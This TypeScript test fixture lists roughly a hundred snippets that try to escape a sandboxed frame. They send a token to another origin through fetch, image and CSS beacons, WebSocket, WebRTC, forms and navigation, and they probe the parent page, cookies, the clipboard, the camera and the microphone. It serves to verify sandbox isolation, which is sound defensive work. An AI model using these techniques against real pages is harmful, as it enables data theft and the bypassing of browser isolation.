/** How an attempt proves that it got out. */
export type Evidence =
  /** A request with the attempt's token reached the other origin. */
  | "request"
  /** A request with the token reached the page's own site. */
  | "own-request"
  /** A TCP connection or a UDP packet reached the attempt's port. */
  | "knock"
  /** The code itself noticed that it succeeded, and called `report()`. */
  | "report"
  /** The browser showed a dialog, opened a page, started a download, or left the page. */
  | "dialog"
  | "popup"
  | "download"
  | "page-left"
  /** A message reached one of the page's listeners, on `window` or on a channel named "secrets". */
  | "page-message";

export interface EscapeAttempt {
  readonly name: string;
  readonly evidence: Evidence;
  /**
   * JavaScript of an async function. In scope: `url` (at the other origin, with the token), `ownUrl` (at the page's
   * site, with the token), `port` (watched, at 127.0.0.1), `token`, `report()`.
   */
  readonly code: string;
  /** Runs in the handler of a real click, because some ways out work only there. */
  readonly click?: boolean;
  /** Needs a separate frame, because it would take the frame or the page away from the others. */
  readonly alone?: boolean;
  /** Whether the same code gets out of a frame without a sandbox. @default true */
  readonly hasControl?: boolean;
}

const append = (tag: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement("${tag}"), ${properties}));`;
const markup = (html: string) =>
  `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)}.replaceAll("URL", url));`;
const style = (css: string) =>
  `document.head.append(Object.assign(document.createElement("style"), { textContent: ${css} }));`;

export const escapeAttempts: readonly EscapeAttempt[] = [
  // Requests.
  { name: "fetch", evidence: "request", code: "await fetch(url)" },
  { name: "fetch without CORS", evidence: "request", code: 'await fetch(url, { mode: "no-cors", keepalive: true })' },
  { name: "fetch from its own site", evidence: "own-request", code: 'await fetch(ownUrl, { credentials: "include" })' },
  {
    name: "XMLHttpRequest",
    evidence: "request",
    code: 'const request = new XMLHttpRequest(); request.open("GET", url); request.send()',
  },
  { name: "WebSocket", evidence: "request", code: 'new WebSocket(url.replace("http", "ws"))' },
  { name: "EventSource", evidence: "request", code: "new EventSource(url)" },
  { name: "sendBeacon", evidence: "request", code: 'navigator.sendBeacon(url, "secret")' },
  { name: "image", evidence: "request", code: "new Image().src = url" },
  { name: "srcset", evidence: "request", code: markup("<img srcset='URL 1x'>") },
  { name: "picture", evidence: "request", code: markup("<picture><source srcset='URL'><img></picture>") },
  { name: "SVG image", evidence: "request", code: markup("<svg><image href='URL'/></svg>") },
  {
    name: "SVG filter image",
    evidence: "request",
    code: markup(
      "<svg><filter id='f'><feImage href='URL'/></filter><rect width='9' height='9' filter='url(#f)'/></svg>",
    ),
  },
  { name: "CSS background", evidence: "request", code: 'document.body.style.backgroundImage = "url(" + url + ")"' },
  { name: "CSS cursor", evidence: "request", code: 'document.body.style.cursor = "url(" + url + "), auto"' },
  { name: "CSS content", evidence: "request", code: style('"body::after { content: url(" + url + ") }"') },
  { name: "CSS mask", evidence: "request", code: style('"body { mask-image: url(" + url + ") }"') },
  { name: "CSS import", evidence: "request", code: style('"@import url(" + url + "/style)"') },
  {
    name: "font",
    evidence: "request",
    code: 'const font = new FontFace("F", "url(" + url + ")"); await font.load()',
  },
  {
    name: "font in CSS",
    evidence: "request",
    code: `${style('"@font-face { font-family: F; src: url(" + url + ") } body { font-family: F }"')} document.body.append("text")`,
  },
  { name: "stylesheet link", evidence: "request", code: append("link", '{ rel: "stylesheet", href: url + "/style" }') },
  { name: "video", evidence: "request", code: append("video", "{ src: url }") },
  { name: "video poster", evidence: "request", code: append("video", "{ poster: url }") },
  { name: "audio", evidence: "request", code: "new Audio(url).load()" },
  {
    name: "subtitles",
    evidence: "request",
    code:
      markup("<video crossorigin src='data:video/mp4,'><track default kind='subtitles' src='URL'></video>") +
      'document.querySelector("track").track.mode = "showing"',
  },
  { name: "script", evidence: "request", code: append("script", '{ src: url + "/script" }') },
  { name: "module script", evidence: "request", code: append("script", '{ type: "module", src: url + "/script" }') },
  {
    name: "inline script",
    evidence: "request",
    code: append("script", '{ textContent: "new Image().src = " + JSON.stringify(url) }'),
  },
  { name: "handler attribute", evidence: "request", code: markup("<img src='data:,' onerror='fetch(\"URL\")'>") },
  { name: "dynamic import", evidence: "request", code: 'await new Function("u", "return import(u)")(url + "/import")' },
  {
    name: "import of a data address",
    evidence: "request",
    code: 'await new Function("u", "return import(u)")("data:text/javascript," + encodeURIComponent("fetch(" + JSON.stringify(url) + ")"))',
  },
  {
    name: "import map",
    evidence: "request",
    code:
      append("script", '{ type: "importmap", textContent: JSON.stringify({ imports: { leak: url + "/import" } }) }') +
      'await new Function("return import(\\"leak\\")")()',
  },
  { name: "preload link", evidence: "request", code: append("link", '{ rel: "preload", as: "image", href: url }') },
  { name: "prefetch link", evidence: "request", code: append("link", '{ rel: "prefetch", href: url }') },
  {
    name: "modulepreload link",
    evidence: "request",
    code: append("link", '{ rel: "modulepreload", href: url + "/script" }'),
  },
  { name: "object", evidence: "request", code: append("object", "{ data: url }") },
  { name: "embed", evidence: "request", code: append("embed", "{ src: url }") },
  {
    name: "ping of a link",
    evidence: "request",
    code: 'const link = Object.assign(document.createElement("a"), { href: "#", ping: url }); document.body.append(link); link.click()',
  },
  {
    name: "WebRTC",
    evidence: "knock",
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] });
      peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer())`,
  },
  { name: "WebTransport", evidence: "knock", code: 'await new WebTransport("https://127.0.0.1:" + port).ready' },
  {
    name: "worker",
    evidence: "request",
    code: 'new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(url) + ")"], { type: "text/javascript" })))',
  },
  {
    name: "shared worker",
    evidence: "request",
    code: 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(url) + ")"], { type: "text/javascript" })))',
  },
  {
    name: "service worker",
    evidence: "report",
    code: 'await navigator.serviceWorker.register("/service-worker.js"); report()',
  },
  {
    name: "audio worklet",
    evidence: "request",
    code: 'await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url + "/worker")',
  },

  // Leaving.
  { name: "location", evidence: "request", alone: true, code: "location.href = url" },
  { name: "location.replace", evidence: "request", alone: true, code: "location.replace(url)" },
  { name: "location to its own site", evidence: "own-request", alone: true, code: "location.href = ownUrl" },
  {
    name: "meta refresh",
    evidence: "request",
    alone: true,
    code: markup("<meta http-equiv='refresh' content='0;url=URL'>"),
  },
  {
    name: "form",
    evidence: "request",
    alone: true,
    code: 'const form = Object.assign(document.createElement("form"), { action: url, method: "post" }); document.body.append(form); form.submit()',
  },
  {
    name: "form into a new page",
    evidence: "request",
    alone: true,
    code: 'const form = Object.assign(document.createElement("form"), { action: url, target: "_blank" }); document.body.append(form); form.submit()',
    click: true,
  },
  {
    name: "link",
    evidence: "request",
    alone: true,
    code: 'const link = Object.assign(document.createElement("a"), { href: url }); document.body.append(link); link.click()',
  },
  {
    name: "link into a new page",
    evidence: "popup",
    code: 'const link = Object.assign(document.createElement("a"), { href: url, target: "_blank" }); document.body.append(link); link.click()',
    click: true,
  },
  {
    name: "link for the whole page",
    evidence: "page-left",
    alone: true,
    code: 'const link = Object.assign(document.createElement("a"), { href: url, target: "_top" }); document.body.append(link); link.click()',
    click: true,
  },
  {
    name: "SVG link",
    evidence: "request",
    alone: true,
    code:
      markup("<svg><a href='URL'><text>x</text></a></svg>") +
      'document.querySelector("svg a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))',
  },
  { name: "window.open", evidence: "popup", code: 'window.open(url, "_blank")', click: true },
  { name: "window.open without a click", alone: true, evidence: "popup", code: 'window.open(url, "_blank")' },
  { name: "window.open of the frame itself", evidence: "request", alone: true, code: 'window.open(url, "_self")' },
  {
    name: "window.open of the page",
    evidence: "page-left",
    alone: true,
    code: 'window.open(url, "_top")',
    click: true,
  },
  { name: "top.location", evidence: "page-left", alone: true, code: "top.location.href = url", click: true },
  { name: "parent.location", evidence: "page-left", alone: true, code: "parent.location = url", click: true },
  { name: "history.back", evidence: "page-left", alone: true, code: "history.back()" },
  { name: "navigation.navigate", evidence: "request", alone: true, code: "navigation.navigate(url)" },

  // Frames that the canvas creates.
  { name: "frame", evidence: "request", code: append("iframe", "{ src: url }") },
  {
    name: "frame from text",
    evidence: "request",
    code: append("iframe", '{ srcdoc: "<script>new Image().src = " + JSON.stringify(url) + "</" + "script>" }'),
  },
  {
    name: "image in a frame from text",
    evidence: "request",
    code: append("iframe", '{ srcdoc: "<img src=\'" + url + "\'>" }'),
  },
  {
    name: "frame from a blob",
    evidence: "request",
    code: append(
      "iframe",
      `{ src: URL.createObjectURL(new Blob(["<img src='" + url + "'>"], { type: "text/html" })) }`,
    ),
  },
  {
    name: "frame from a data address",
    evidence: "request",
    code: append("iframe", '{ src: "data:text/html,<img src=\'" + url + "\'>" }'),
  },
  {
    name: "frame with a script address",
    evidence: "request",
    code: append("iframe", '{ src: "javascript:void(new Image().src = " + JSON.stringify(url) + ")" }'),
  },
  {
    name: "fresh window of an empty frame",
    evidence: "request",
    // In its own frame, because the page's first frame may be navigating, which would end the request.
    code: 'const frame = document.createElement("iframe"); document.body.append(frame); await frame.contentWindow.fetch(url)',
  },
  {
    name: "going to a blob",
    evidence: "request",
    alone: true,
    code: `location.href = URL.createObjectURL(new Blob(["<script>new Image().src = " + JSON.stringify(url) + "</" + "script>"], { type: "text/html" }))`,
  },

  // The page.
  { name: "parent.document", evidence: "report", code: "if (parent.document.body) report()" },
  { name: "top.document", evidence: "report", code: "if (top.document.title) report()" },
  { name: "frameElement", evidence: "report", code: "if (window.frameElement) report()" },
  { name: "a global of the page", evidence: "report", code: "if (parent.pageSecret) report()" },
  { name: "parent.localStorage", evidence: "report", code: "parent.localStorage.setItem(token, token); report()" },
  { name: "parent.eval", evidence: "own-request", code: 'parent.eval("fetch(" + JSON.stringify(ownUrl) + ")")' },
  {
    name: "document.domain",
    evidence: "report",
    alone: true,
    code: "document.domain = document.domain; if (parent.document.body) report()",
  },
  {
    name: "broadcast to the page",
    evidence: "page-message",
    code: 'new BroadcastChannel("secrets").postMessage(token)',
  },

  // Storage.
  { name: "localStorage", evidence: "report", code: 'localStorage.setItem("a", "b"); report()' },
  { name: "sessionStorage", evidence: "report", code: 'sessionStorage.setItem("a", "b"); report()' },
  {
    name: "cookie",
    evidence: "report",
    code: 'document.cookie = "a=b"; if (document.cookie.includes("a=b")) report()',
  },
  { name: "cookieStore", evidence: "report", code: 'await cookieStore.set("a", "b"); report()' },
  {
    name: "IndexedDB",
    evidence: "report",
    code: 'await new Promise((resolve, reject) => Object.assign(indexedDB.open("a"), { onsuccess: resolve, onerror: reject })); report()',
  },
  { name: "Cache", evidence: "report", code: 'await caches.open("a"); report()' },
  { name: "private file system", evidence: "report", code: "await navigator.storage.getDirectory(); report()" },
  { name: "locks", evidence: "report", code: 'await navigator.locks.request("a", () => report())' },

  // Dialogs, devices and the rest of the browser.
  { name: "alert", evidence: "dialog", alone: true, code: "alert(token)" },
  { name: "confirm", evidence: "dialog", alone: true, code: "confirm(token)" },
  { name: "prompt", evidence: "dialog", alone: true, code: "prompt(token)" },
  { name: "print", evidence: "report", alone: true, code: 'addEventListener("beforeprint", report); print()' },
  {
    name: "download",
    evidence: "download",
    code: 'const link = Object.assign(document.createElement("a"), { href: URL.createObjectURL(new Blob(["x"])), download: token + ".txt" }); document.body.append(link); link.click()',
    click: true,
  },
  {
    name: "clipboard writing",
    evidence: "report",
    code: "await navigator.clipboard.writeText(token); report()",
    click: true,
  },
  {
    name: "clipboard reading",
    evidence: "report",
    code: "await navigator.clipboard.readText(); report()",
    click: true,
  },
  {
    name: "copy command",
    evidence: "report",
    code: `document.body.append(Object.assign(document.createElement("textarea"), { value: token }));
      document.querySelector("textarea").select(); if (document.execCommand("copy")) report()`,
    click: true,
  },
  {
    name: "geolocation",
    evidence: "report",
    code: "await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)); report()",
  },
  { name: "camera", evidence: "report", code: "await navigator.mediaDevices.getUserMedia({ video: true }); report()" },
  {
    name: "microphone",
    evidence: "report",
    code: "await navigator.mediaDevices.getUserMedia({ audio: true }); report()",
  },
  {
    name: "full screen",
    evidence: "report",
    code: "await document.documentElement.requestFullscreen(); report()",
    click: true,
  },
  { name: "pointer lock", evidence: "report", code: "await document.body.requestPointerLock(); report()", click: true },
  { name: "gamepads", evidence: "report", code: "navigator.getGamepads(); report()" },
];
